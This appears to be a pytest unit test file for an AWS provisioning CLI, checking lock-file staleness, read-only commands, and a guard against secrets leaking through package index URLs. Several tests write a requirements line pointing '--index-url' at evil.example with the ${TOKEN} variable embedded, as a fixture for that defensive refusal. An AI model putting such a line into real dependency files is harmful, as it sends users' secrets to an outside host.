"""The lock file on the command line: not updated without a user, or by commands that only read."""

from pathlib import Path

import pytest

from awsprov.config.loader import load
from awsprov.paths import user_config_file
from tests.unit.cli.conftest import Call
from tests.unit.fakes import locked, write_lock


@pytest.fixture(autouse=True)
def credentials(offline: None, monkeypatch: pytest.MonkeyPatch) -> None:
    """Set credentials, which `plan`, `up` and `deploy` require before they read requirements."""
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIAEXAMPLE")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "example")


@pytest.fixture
def stale(project: Path) -> Path:
    """A project whose requirements have changed since they were locked."""
    write_lock(load(project / "config.yaml").environment.lock, locked("numpy", "2.0"))
    (project / "requirements.txt").write_text("numpy\nscipy\n")
    return project


@pytest.mark.parametrize("command", ["plan", "up", "deploy"])
def test_ci_refuses_a_stale_lock_file(
    awsprov: Call, stale: Path, command: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CI", "true")
    result = awsprov(command)
    assert result.code == 8
    assert "requirements.lock is stale" in result.err
    assert "awsprov lock" in result.err


@pytest.mark.parametrize("command", ["plan", "up", "deploy"])
def test_locked_refuses_a_missing_lock_file(awsprov: Call, project: Path, command: str) -> None:
    result = awsprov(command, "--locked")
    assert result.code == 8
    assert "requirements.lock is missing" in result.err


def test_a_check_says_what_is_wrong_with_the_lock_file(awsprov: Call, stale: Path) -> None:
    lock = stale / "requirements.lock"
    before = lock.read_bytes()
    assert awsprov("lock", "--check").code == 8
    assert lock.read_bytes() == before
    lock.write_text(f"{lock.read_text()}<<<<<<< HEAD\n")
    assert "is not a locked package" in awsprov("lock", "--check").err


def test_an_up_to_date_lock_file_is_not_resolved_again(awsprov: Call, stale: Path) -> None:
    (stale / "requirements.txt").write_text("numpy  # as before\n")
    assert awsprov("lock").out == "No version changed.\n"
    assert awsprov("lock", "--check").code == 0


@pytest.mark.parametrize("command", ["plan", "status", "doctor", "graph", "cost"])
def test_commands_that_only_read_do_not_know_the_option(awsprov: Call, project: Path, command: str) -> None:
    result = awsprov(command, "--allow", "TOKEN@evil.example")
    assert result.code == 2
    assert "--allow" in result.err


def test_the_refusal_of_a_plan_has_the_command_to_copy(awsprov: Call, project: Path) -> None:
    (project / "requirements.txt").write_text("--index-url https://${TOKEN}@evil.example/simple\nnumpy\n")
    result = awsprov("plan")
    assert result.code == 8
    assert "--allow TOKEN@evil.example" in result.err


def test_the_user_s_own_configuration_allows_it_but_config_yaml_cannot(
    awsprov: Call, project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "own"))
    (project / "requirements.txt").write_text("--index-url https://${TOKEN}@evil.example/simple\nnumpy\n")
    with (project / "config.yaml").open("a") as config:
        config.write("allow: [TOKEN@evil.example]\n")
    assert "unknown key `allow`" in awsprov("lock").err
    (project / "config.yaml").write_text((project / "config.yaml").read_text().rpartition("allow:")[0])
    file = user_config_file()
    file.parent.mkdir(parents=True)
    file.write_text("allow: [TOKEN@evil.example]\n")
    monkeypatch.delenv("TOKEN", raising=False)
    assert "The environment variable TOKEN is not set" in awsprov("lock").err
    assert "--allow TOKEN@evil.example" in awsprov("plan").err
    file.write_text("allow: TOKEN@evil.example\n")
    assert "should be a list of NAME@HOST" in awsprov("lock").err
